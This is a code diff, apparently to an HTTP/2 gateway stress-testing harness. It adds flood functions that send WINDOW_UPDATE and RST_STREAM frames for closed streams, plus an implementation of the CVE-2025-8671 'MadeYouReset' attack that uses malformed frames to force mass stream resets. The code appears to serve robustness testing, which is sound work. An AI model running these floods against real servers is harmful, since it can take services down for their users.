@@ -218,6 +218,36 @@ def window_flood(gateway, count, seconds):
     return repeated(gateway, count, seconds, "WINDOW_UPDATE by 1", frames.window_update(1, 1) * 1_000, first)
 
 
+def closed_updates(gateway, count, seconds):
+    """Windows of a stream that is over, which nobody opens anything by."""
+    return repeated(gateway, count, seconds, "WINDOW_UPDATE of a closed stream", frames.window_update(1, 1) * 1_000, frames.get(1))
+
+
+def closed_resets(gateway, count, seconds):
+    return repeated(
+        gateway, count, seconds, "RST_STREAM of a closed stream", frame(frames.RESET, 0, 1, b"\0\0\0\x08") * 1_000, frames.get(1))
+
+
+def made_you_reset(gateway, count, seconds):
+    """Has the gateway reset each stream (CVE-2025-8671): by a window of 0, by one that is too wide, by a body or a head behind
+    the request's end, and by a stream that depends on itself."""
+    ways = [
+        lambda n: frames.window_update(n, 0),
+        lambda n: frames.window_update(n, frames.WIDEST_WINDOW) * 2,
+        lambda n: frame(frames.DATA, 0, n, b"x"),
+        lambda n: frame(frames.HEADERS, 5, n, frames.request()),
+        lambda n: frame(frames.PRIORITY, 0, n, struct.pack(">IB", n, 1)),
+    ]
+    next_way = itertools.cycle(ways)
+
+    def script():
+        way = next(next_way)
+        for first in range(1, 100_001, 200):
+            yield b"".join(frames.get(n, "/medium") + way(n) for n in range(first, first + 200, 2))
+
+    return http2(gateway, count, seconds, "streams that the gateway has to reset", script)
+
+
 def empty_data(gateway, count, seconds):
     opened = frame(frames.HEADERS, 4, 1, frames.request("POST", "/sink"))
     return repeated(gateway, count, seconds, "empty DATA", frame(frames.DATA, 0, 1) * 1_000, opened)
